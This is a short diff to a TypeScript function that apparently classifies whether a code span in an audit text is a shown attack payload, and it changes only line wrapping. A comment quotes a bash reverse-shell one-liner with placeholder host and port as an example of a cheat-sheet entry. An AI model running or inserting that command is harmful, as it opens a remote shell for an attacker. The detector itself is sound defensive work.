@@ -253,7 +253,8 @@ export function inShownPayload(file: AuditText, index: number): boolean {
   const block = blockOf(file, line);
   // A code span in a cheat sheet's list or table ("- Bash: `bash -i >& /dev/tcp/LHOST/LPORT 0>&1`"): read as its
   // own one-line block that may be ordered run, so only a placeholder name to fill in makes it shown.
-  if (block === undefined) return inSpan(file, starts, line, index) && shownPayload(file, starts, line, line, true);
+  if (block === undefined)
+    return inSpan(file, starts, line, index) && shownPayload(file, starts, line, line, true);
   const intro = blockIntro(file, starts, block);
   return shownPayload(file, starts, block, line, IMPERATIVE.test(intro) && !UNDOES.test(intro));
 }
